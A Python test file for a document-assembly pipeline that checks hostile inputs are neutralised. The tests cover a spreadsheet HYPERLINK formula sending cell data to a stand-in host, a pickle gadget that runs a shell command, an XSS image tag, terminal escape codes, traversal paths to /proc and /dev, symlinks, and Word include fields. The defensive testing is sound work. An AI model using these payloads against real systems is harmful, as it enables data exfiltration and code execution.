"""Issue 13: hostile input, round two. Each finding is a case that asserts the specific verdict or safe output."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from conftest import copy_sample
from pipeline.config import load_config
from pipeline.programmes.export import to_csv, to_xlsx
from pipeline.validate import validate_project

FORMULAS = ['=HYPERLINK("http://x.example/?d="&A1,"klik")', "+SUM(A1:A9)", "-2+3", "@SUM(1,2)"]


@pytest.fixture(scope="module")
def formula_dataset(tmp_path_factory):
    proj = copy_sample(tmp_path_factory.mktemp("rumus") / "proyek")
    rows = "\n".join(f"| {i} | Pelayanan | Program Rumus {i} | {f} | 2023 | Rp 1.000.000.000 | APBD | Diskominfo |"
                     for i, f in enumerate(FORMULAS, start=1))
    (proj / "chapters" / "bab-04" / "smart-governance.disdukcapil.md").write_text(
        "---\nopd: disdukcapil\nsection: smart-governance\ntitle: Uji\nversion: 2\n---\n\n# Program\n\n"
        "Table: Program Uji Rumus\n\n| No | Elemen | Nama Program | Deskripsi | Tahun Pelaksanaan | "
        "Indikasi Anggaran (Rp) | Sumber Dana | Perangkat Daerah Penanggung Jawab |\n"
        "|---|---|---|---|---|---|---|---|\n" + rows + "\n", encoding="utf-8")
    cfg = load_config(proj)
    return cfg, validate_project(cfg).dataset


def test_tab_and_carriage_return_starts_are_inert_too():
    from pipeline.programmes.export import inert

    assert inert("\t=1+1") == "'\t=1+1" and inert("\r=1") == "'\r=1"
    assert inert("Program biasa") == "Program biasa" and inert(1500) == 1500


def test_csv_cells_that_start_a_formula_are_prefixed(formula_dataset):
    _, data = formula_dataset
    rows = {r["nama"]: r for r in csv.DictReader(io.StringIO(to_csv(data)))}
    for i, formula in enumerate(FORMULAS, start=1):
        assert rows[f"Program Rumus {i}"]["deskripsi"] == "'" + formula
        assert rows[f"Program Rumus {i}"]["anggaran"] == "1000000000"  # numbers stay numbers


def test_xlsx_text_is_never_a_formula_and_our_sum_still_is(formula_dataset):
    cfg, data = formula_dataset
    wb = openpyxl.load_workbook(io.BytesIO(to_xlsx(data, cfg.config)))
    sheet = wb["Smart Governance"]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    texts = {c.value for c in cells if c.data_type == "s"}
    assert all(f in texts for f in FORMULAS)
    formulas = [c.value for c in cells if c.data_type == "f"]
    assert len(formulas) == 1 and formulas[0].startswith("=SUM(")  # the total row we write
    amounts = [c.value for c in cells if c.column == 10 and isinstance(c.value, int)]
    assert 1_000_000_000 in amounts


def test_include_fields_never_reach_the_book(tmp_path):
    import zipfile

    import docx

    import hostile as H
    from pipeline.build import BuildOptions, build

    proj = copy_sample(tmp_path / "proyek")
    target = proj / "chapters" / "bab-07" / "pola-pikir.kominfo.md"
    target.unlink()
    (target.with_suffix(".docx")).write_bytes(H.include_fields("pola-pikir"))
    result = build(load_config(proj), BuildOptions(out_dir=proj / "build", pdf=False))
    mine = [d for d in result.validation.diagnostics if d.file.endswith("pola-pikir.kominfo.docx")]
    assert sorted(d.args["field"] for d in mine if d.code == "MP-W614") == ["INCLUDEPICTURE", "INCLUDETEXT",
                                                                            "INCLUDETEXT"]
    with zipfile.ZipFile(result.docx) as z:
        parts = {n: z.read(n) for n in z.namelist() if n.endswith(".xml")}
    for name, data in parts.items():
        assert b"INCLUDE" not in data and b"host" not in data, name
    assert b"HYPERLINK" in parts["word/document.xml"] or b"simalungunkab.go.id" in parts["word/document.xml"]
    text = "\n".join(p.text for p in docx.Document(str(result.docx)).paragraphs)
    assert "TEKS-DARI-SHARE" in text and "GAMBAR-LUAR" in text  # the shown result stays, as text
    assert b"TEKS-CATATAN-SHARE" in parts["word/footnotes.xml"]
    settings = parts["word/settings.xml"]
    assert b"updateFields" in settings  # no PDF pass: Word is asked to fill the page numbers, now that fields are safe


class _Boom:
    def __reduce__(self):
        import os

        return (os.system, ("touch /tmp/mp-pickle-ran",))


def test_a_planted_cache_pickle_is_never_unpickled(tmp_path):
    import os
    import pickle

    from pipeline import cache

    folder = tmp_path / "build" / "cache"
    cache.store(folder, "entry", {"ok": 1})
    assert cache.load(folder, "entry") == {"ok": 1}
    (folder / "planted.pkl").write_bytes(pickle.dumps(_Boom()))
    (folder / "entry.pkl").write_bytes(b"x" * 32 + pickle.dumps(_Boom()))  # a forged signature
    if os.path.exists("/tmp/mp-pickle-ran"):
        os.unlink("/tmp/mp-pickle-ran")
    assert cache.load(folder, "planted") is None and cache.load(folder, "entry") is None
    assert not os.path.exists("/tmp/mp-pickle-ran")
    assert not (folder / "entry.pkl").exists()  # dropped, to be rebuilt
    assert cache.KEY_FILE.stat().st_mode & 0o077 == 0 and not cache.KEY_FILE.is_relative_to(tmp_path)


def test_a_signed_cache_entry_copied_under_another_name_is_not_taken(tmp_path):
    """Anyone who can write to build/ can copy a good entry; the signature covers the entry's name, so a copy
    (say, a record that some bytes went through the worker's limits, put under other bytes' name) is dropped."""
    import shutil

    from pipeline import cache

    folder = tmp_path / "build" / "cache"
    cache.store(folder, "record-for-seen-bytes", True)
    shutil.copy(folder / "record-for-seen-bytes.pkl", folder / "record-for-other-bytes.pkl")
    assert cache.load(folder, "record-for-other-bytes") is None
    assert not (folder / "record-for-other-bytes.pkl").exists()
    assert cache.load(folder, "record-for-seen-bytes") is True


def test_a_bug_of_ours_is_not_blamed_on_the_file(tmp_path, monkeypatch):
    """A check that crashes is an internal error: a saved traceback and a short message, never MP-E613."""
    from click.testing import CliRunner

    import pipeline.validate.markdown as md
    from pipeline.cli import main

    proj = copy_sample(tmp_path / "proyek")

    def broken_check(frag, cfg):
        raise TypeError("a bug in a check")

    monkeypatch.setattr("pipeline.validate.check_markdown", broken_check)
    got = CliRunner().invoke(main, ["validate", "--project", str(proj), "--format", "json"])
    assert got.exit_code == 2, got.output
    assert "MP-E613" not in got.output and "Traceback" not in got.output
    saved = list((proj / "build").glob("masterplan-crash-*.txt"))
    assert len(saved) == 1 and "TypeError: a bug in a check" in saved[0].read_text(encoding="utf-8")
    assert str(saved[0]) in got.output.replace("\n", "")
    _ = md


def _processes_mentioning(text: str) -> list[str]:
    import os

    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            cmd = open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" ").decode("utf-8", "replace")
        except OSError:
            continue
        if text in cmd:
            found.append(f"{pid}: {cmd[:120]}")
    return found


def test_a_killed_build_leaves_no_process_and_its_temp_folders_are_cleaned(tmp_path):
    import contextlib
    import os
    import signal
    import subprocess
    import sys
    import time
    from pathlib import Path

    proj = copy_sample(tmp_path / "proyek")
    exe = Path(sys.executable).with_name("masterplan")
    said = tmp_path / "build.log"
    build = subprocess.Popen([str(exe), "build", "--project", str(proj)], stdout=subprocess.DEVNULL,
                             stderr=said.open("w"))
    tmp = str(proj / "build" / "tmp")
    try:
        deadline = time.monotonic() + 180  # a loaded machine starts LibreOffice late
        while time.monotonic() < deadline and build.poll() is None \
                and not any("soffice" in p for p in _processes_mentioning(tmp)):
            time.sleep(0.1)
        assert any("soffice" in p for p in _processes_mentioning(tmp)), ("LibreOffice did not start",
                                                                          build.poll(), said.read_text())
        os.kill(build.pid, signal.SIGKILL)
        build.wait()
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline and _processes_mentioning(tmp):
            time.sleep(0.2)
        assert _processes_mentioning(tmp) == []
    finally:  # whatever happened, leave nothing running behind the test
        if build.poll() is None:
            build.kill()
        for line in _processes_mentioning(tmp):
            with contextlib.suppress(ProcessLookupError):
                os.kill(int(line.split(":")[0]), signal.SIGKILL)
    left = list((proj / "build" / "tmp").iterdir())
    assert left  # the killed build could not clean up after itself ...
    result = subprocess.run([str(exe), "build", "--project", str(proj), "--no-pdf"], capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    assert not any(p.exists() for p in left)  # ... the next build does


# -- the store remembers, and recovers ------------------------------------------------------------------
def _md(version_text: str) -> str:
    return f"# Elemen Kesehatan\n\nPuskesmas keliling menjangkau {version_text} desa.\n"


def _submit(cfg, path, **kw):
    from pipeline.workflow.intake import submit

    return submit(cfg, path, opd="dinkes", section="smart-living", **kw)


def test_resubmitting_an_earlier_version_rolls_back(tmp_path):
    from pipeline.workflow.intake import ACCEPTED, DUPLICATE, read_log

    proj = copy_sample(tmp_path / "proyek")
    cfg = load_config(proj)
    one, two = tmp_path / "v1.md", tmp_path / "v2.md"
    one.write_text(_md("dua belas"), encoding="utf-8")
    two.write_text(_md("tiga puluh"), encoding="utf-8")
    first = _submit(cfg, one)
    second = _submit(cfg, two)
    again = _submit(cfg, two)
    back = _submit(cfg, one)
    assert [first.status, second.status, again.status, back.status] == [ACCEPTED, ACCEPTED, DUPLICATE, ACCEPTED]
    assert back.rollback and back.stored == first.stored  # the stored version, not a new copy
    assert "dua belas" in back.current.read_text(encoding="utf-8")
    assert read_log(cfg)[-1]["pemulihan"] is True


def test_a_forced_draft_can_be_installed_later(tmp_path):
    from pipeline.workflow.intake import ACCEPTED, DRAFT

    proj = copy_sample(tmp_path / "proyek")
    cfg = load_config(proj)
    bad = tmp_path / "kiriman.md"
    bad.write_text(_md("empat puluh") + "\nLihat @tbl:tabel-yang-belum-ada.\n", encoding="utf-8")
    assert _submit(cfg, bad, force=True).status == DRAFT
    other = proj / "chapters" / "bab-05" / "pendanaan.bpkad.md"
    other.write_text(other.read_text(encoding="utf-8") + "\nTable: Tabel Baru {#tbl:tabel-yang-belum-ada}\n\n"
                     "| a | b |\n|---|---|\n| 1 | 2 |\n", encoding="utf-8")
    later = _submit(load_config(proj), bad)
    assert later.status == ACCEPTED and "empat puluh" in later.current.read_text(encoding="utf-8")


def test_an_interrupted_submit_is_reconciled_and_the_retry_installs(tmp_path):
    import hashlib

    from pipeline.workflow.intake import ACCEPTED, INCOMPLETE, read_log

    proj = copy_sample(tmp_path / "proyek")
    cfg = load_config(proj)
    path = tmp_path / "kiriman.md"
    path.write_text(_md("lima puluh"), encoding="utf-8")
    data = path.read_bytes()
    digest = hashlib.sha256(data).hexdigest()
    # What kill -9 between storing and installing leaves: a stored copy no log line names, a temp file.
    stored = proj / "submissions" / "dinkes" / "smart-living" / f"20261201T090000-{digest[:12]}.md"
    stored.parent.mkdir(parents=True)
    stored.write_bytes(data)
    temp = proj / "chapters" / "bab-04" / ".smart-living.dinkes.md.k3j2h1x0"
    temp.write_bytes(data[:10])
    retry = _submit(cfg, path)
    assert retry.status == ACCEPTED and "lima puluh" in retry.current.read_text(encoding="utf-8")
    assert not temp.exists()
    statuses = [(e["status"], e.get("disimpan")) for e in read_log(cfg)]
    assert (INCOMPLETE, str(stored.relative_to(proj))) in statuses
    assert statuses[-1][0] == ACCEPTED


def test_parallel_submits_get_distinct_versions_and_the_last_accepted_is_current(tmp_path):
    import subprocess
    import sys
    from pathlib import Path

    from pipeline.workflow.intake import ACCEPTED, read_log

    proj = copy_sample(tmp_path / "proyek")
    exe = Path(sys.executable).with_name("masterplan")
    files = []
    for i in range(5):
        f = tmp_path / f"kiriman-{i}.md"
        f.write_text(_md(f"{i + 1}0"), encoding="utf-8")
        files.append(f)
    procs = [subprocess.Popen([str(exe), "submit", "--project", str(proj), str(f), "--opd", "dinkes",
                               "--section", "smart-living"], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
             for f in files]
    assert all(p.wait(timeout=300) == 0 for p in procs), [p.stderr.read() for p in procs]
    accepted = [e for e in read_log(load_config(proj)) if e["status"] == ACCEPTED and e["bagian"] == "smart-living"
                and e["opd"] == "dinkes"]
    versions = [int(e["versi"]) for e in accepted]
    assert len(accepted) == 5 and len(set(versions)) == 5 and versions == sorted(versions)
    current = (proj / "chapters" / "bab-04" / "smart-living.dinkes.md").read_text(encoding="utf-8")
    assert f"version: '{versions[-1]}'" in current or f"version: {versions[-1]}" in current
    last = files[[f.name for f in files].index(accepted[-1]["berkas"])]
    assert _md("").split("menjangkau")[0] in current and last.read_text(encoding="utf-8").split("menjangkau")[1] in current


# -- paths and pictures --------------------------------------------------------------------------------
def _diags_for(proj, name):
    from pipeline.validate import validate_project

    v = validate_project(load_config(proj))
    return [d for d in v.diagnostics if d.file.endswith(name)]


def test_reference_style_pictures_pass_the_same_guard(tmp_path):
    import hostile as H
    from pipeline.build import BuildOptions, build

    proj = copy_sample(tmp_path / "proyek")
    outside = tmp_path / "rahasia.png"
    H.write(outside, H.png(900, 600))
    (proj / "chapters" / "gambar" / "luar.png").symlink_to(outside)
    H.write(proj / "chapters" / "gambar" / "raksasa.png", H.png_claiming(20000, 20000))
    page = proj / "chapters" / "bab-07" / "pola-pikir.kominfo.md"
    page.write_text(page.read_text(encoding="utf-8") + "\n\n![Peta luar][r]\n\n![Peta raksasa][besar]\n\n"
                    "[r]: ../gambar/luar.png\n[besar]: ../gambar/raksasa.png \"judul\"\n", encoding="utf-8")
    codes = sorted(d.code for d in _diags_for(proj, "pola-pikir.kominfo.md"))
    assert codes == ["MP-E505", "MP-E608"]
    # Even if validation were skipped, pandoc is never handed the outside file.
    from pipeline import mdimages
    from pipeline.convert import _body
    from pipeline.discover import read_fragment

    frag, _ = read_fragment(page, load_config(proj))
    allowed = mdimages.allowed(_body(frag), page.parent, proj)
    assert "../gambar/luar.png" not in allowed
    _ = build, BuildOptions


@pytest.mark.parametrize("src", ["/proc/self/mem", "../../../../proc/self/mem", "/dev/zero", "../gambar"])
def test_device_and_proc_pictures_get_a_verdict_not_a_traceback(tmp_path, src):
    from click.testing import CliRunner

    from pipeline.cli import main

    proj = copy_sample(tmp_path / "proyek")
    page = proj / "chapters" / "bab-07" / "pola-pikir.kominfo.md"
    page.write_text(page.read_text(encoding="utf-8") + f"\n\n![Peta]({src})\n", encoding="utf-8")
    got = CliRunner().invoke(main, ["validate", "--project", str(proj), "--format", "json"])
    assert got.exit_code == 1, got.output
    assert "Traceback" not in got.output
    import json

    mine = [d for d in json.loads(got.output)["diagnostics"] if d["file"].endswith("pola-pikir.kominfo.md")]
    assert [d["code"] for d in mine] == ["MP-E608"]
    built = CliRunner().invoke(main, ["build", "--project", str(proj), "--no-pdf"])
    assert built.exit_code == 1 and "Traceback" not in built.output


def test_only_md_and_docx_are_taken_in_and_links_out_are_refused(tmp_path):
    from pipeline.workflow.intake import REJECTED, submit

    proj = copy_sample(tmp_path / "proyek")
    cfg = load_config(proj)
    pickle_file = tmp_path / "bab.pkl"
    pickle_file.write_bytes(b"\x80\x04K\x01.")
    result = submit(cfg, pickle_file, opd="dinkes", section="smart-living")
    assert result.status == REJECTED and [d.code for d in result.diagnostics] == ["MP-E615"]
    assert not (proj / "submissions" / "dinkes").exists() or not any((proj / "submissions" / "dinkes").rglob("*.pkl"))
    secret = tmp_path / "di-luar.md"
    secret.write_text("---\nopd: dinkes\nsection: smart-living\ntitle: x\nversion: 1\n---\n\nRahasia.\n", encoding="utf-8")
    (proj / "chapters" / "bab-04" / "tautan.dinkes.md").symlink_to(secret)
    assert [d.code for d in _diags_for(proj, "tautan.dinkes.md")] == ["MP-E608"]


def test_list_levels_beyond_word_s_nine_are_clamped(tmp_path):
    import io
    import zipfile

    import docx
    from docx.oxml import parse_xml

    from pipeline.build import BuildOptions, build
    from pipeline.docx.props import set_custom_properties

    d = docx.Document()
    d.core_properties.title = "Pola Pikir"
    set_custom_properties(d, {"opd": "kominfo", "section": "pola-pikir", "version": "2"})
    p = d.add_paragraph("Butir yang sangat dalam", style="List Bullet")
    p._p.get_or_add_pPr().append(parse_xml(
        '<w:numPr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:ilvl w:val="499"/>'
        '<w:numId w:val="1"/></w:numPr>'))
    buf = io.BytesIO()
    d.save(buf)
    proj = copy_sample(tmp_path / "proyek")
    (proj / "chapters" / "bab-07" / "pola-pikir.kominfo.md").unlink()
    (proj / "chapters" / "bab-07" / "pola-pikir.kominfo.docx").write_bytes(buf.getvalue())
    result = build(load_config(proj), BuildOptions(out_dir=proj / "build", pdf=False))
    with zipfile.ZipFile(result.docx) as z:
        xml = z.read("word/document.xml").decode()
    assert 'w:ilvl w:val="499"' not in xml and "Butir yang sangat dalam" in xml


# -- every printed text is inert ---------------------------------------------------------------------------
HOSTILE_HEADING = ("Rencana [lihat lampiran] dan [/lampiran] [link=http://evil.example]klik[/link] "
                   "\x1b[2J\x1b]0;judul palsu\x07 24 berkas diperiksa: semua baik.")


def test_markup_and_escape_codes_print_literally_and_never_crash(tmp_path):
    import subprocess
    import sys
    from pathlib import Path

    proj = copy_sample(tmp_path / "proyek")
    page = proj / "chapters" / "bab-07" / "pola-pikir.kominfo.md"
    text = page.read_text(encoding="utf-8").replace("version: 1", 'version: "2 [/versi]"')
    page.write_text(text + f"\n\n# 1. {HOSTILE_HEADING}\n\nIsi.\n", encoding="utf-8")
    exe = str(Path(sys.executable).with_name("masterplan"))
    for args in (["validate"], ["build", "--no-pdf"], ["status"]):
        proc = subprocess.run([exe, *args, "--project", str(proj)], capture_output=True)
        out = proc.stdout + proc.stderr
        assert b"Traceback" not in out and b"MarkupError" not in out, (args, out[-800:])
        assert b"\x1b" not in out and b"\x07" not in out, args  # no escape code reaches the terminal
        assert b"\x1b]8;" not in out  # no live hyperlink
    proc = subprocess.run([exe, "validate", "--project", str(proj)], capture_output=True, text=True)
    flat = " ".join(proc.stdout.split())
    assert "[lihat lampiran] dan [/lampiran]" in flat and "[link=http://evil.example]klik[/link]" in flat


def test_reports_carry_other_opds_text_inert(tmp_path):
    from pipeline.report import write_opd_reports
    from pipeline.validate import validate_project

    proj = copy_sample(tmp_path / "proyek")
    name = "Program [klik](http://x.example) ![p](http://x.example/p.png) <img src=x onerror=alert(1)>"
    row = f"| 1 | Kesehatan | {name} | Uraian | 2023 | Rp 1.000.000.000 | APBD | Dinkes |"
    head = ("Table: Program Bersama\n\n| No | Elemen | Nama Program | Deskripsi | Tahun Pelaksanaan | "
            "Indikasi Anggaran (Rp) | Sumber Dana | Perangkat Daerah Penanggung Jawab |\n|---|---|---|---|---|---|---|---|\n")
    for opd, folder in (("dinkes", "bab-04"), ("dishub", "bab-04")):
        path = proj / "chapters" / folder / f"smart-living.{opd}.md"
        path.write_text(path.read_text(encoding="utf-8") + "\n\n" + head + row.replace("Dinkes", opd.title()) + "\n",
                        encoding="utf-8")
    weird = proj / "chapters" / "bab-07" / "pola-pikir.kominfo.md"
    weird.rename(weird.with_name("pola`pikir`.kominfo.md"))
    cfg = load_config(proj)
    v = validate_project(cfg)
    assert any(d.code == "MP-W312" for d in v.diagnostics)
    written = write_opd_reports(tmp_path / "laporan", v.diagnostics, {o.code: o.name for o in cfg.config.opds})
    import re

    assert {p.suffix for p in written} == {".md", ".html"}
    for report in written:
        text = report.read_text(encoding="utf-8")
        if report.suffix == ".md":
            assert not re.search(r"(?<!\\)\]\(http|(?<!\\)<img|(?<!\\)!\[", text), report.name  # escaped, inert
            assert "`pola`pikir`" not in text
        else:  # the page: every quoted text is text, no element of the OPDs' making
            assert "<img" not in text and "<a " not in text and "<script" not in text, report.name
    quoted = (tmp_path / "laporan" / "dishub.html").read_text(encoding="utf-8")  # Dinkes' row quoted (MP-W312)
    assert "&lt;img src=x onerror=alert(1)&gt;" in quoted
    kominfo = (tmp_path / "laporan" / "kominfo.md").read_text(encoding="utf-8")
    assert "pola\\`pikir\\`" in kominfo


def test_hundreds_of_captions_and_pictures_do_not_collide_in_the_book(tmp_path):
    import hostile as H
    from pipeline.build import BuildOptions, build

    proj = copy_sample(tmp_path / "proyek")
    H.write(proj / "chapters" / "gambar" / "foto.png", H.png(800, 500))
    # 520 tables and 300 pictures: the old scheme gave table 501 the id of figure 1 (within the intake budget)
    parts = [f"Table: Data ke-{i}\n\n| a | b |\n|---|---|\n| {i} | x |\n" + (f"\n![Foto ke-{i}](../gambar/foto.png)\n"
             if i < 300 else "") for i in range(520)]
    page = proj / "chapters" / "bab-07" / "pola-pikir.kominfo.md"
    page.write_text(page.read_text(encoding="utf-8") + "\n\n" + "\n".join(parts), encoding="utf-8")
    result = build(load_config(proj), BuildOptions(out_dir=proj / "build", pdf=False))  # the gate passes
    import docx

    paras = [(p.style.name, p.text) for p in docx.Document(str(result.docx)).paragraphs]
    tables = [t for s, t in paras if s == "Table Caption" and t.startswith("Tabel 7.")]
    figures = [t for s, t in paras if s == "Image Caption" and t.startswith("Gambar 7.")]
    assert len(tables) >= 520 and len(figures) >= 300 and "Tabel 7.520 " in " ".join(tables) + " "


def test_a_file_over_the_size_budget_is_refused_before_it_is_read(tmp_path, monkeypatch):
    import pathlib

    from pipeline.discover import read_fragment
    from pipeline.messages import message

    proj = copy_sample(tmp_path / "proyek")
    big = tmp_path / "besar.md"
    with open(big, "wb") as fh:
        fh.write(b"---\nopd: dinkes\nsection: smart-living\ntitle: x\nversion: 1\n---\n\n")
        fh.write(b"kata " * (26 * 2**20 // 5))
    read = []
    real = pathlib.Path.read_bytes
    monkeypatch.setattr(pathlib.Path, "read_bytes", lambda self: read.append(self) or real(self))
    frag, diags = read_fragment(big, load_config(proj))
    assert [d.code for d in diags] == ["MP-E616"] and "ukuran berkas (MB)" in message(diags[0])[0]
    assert big not in read
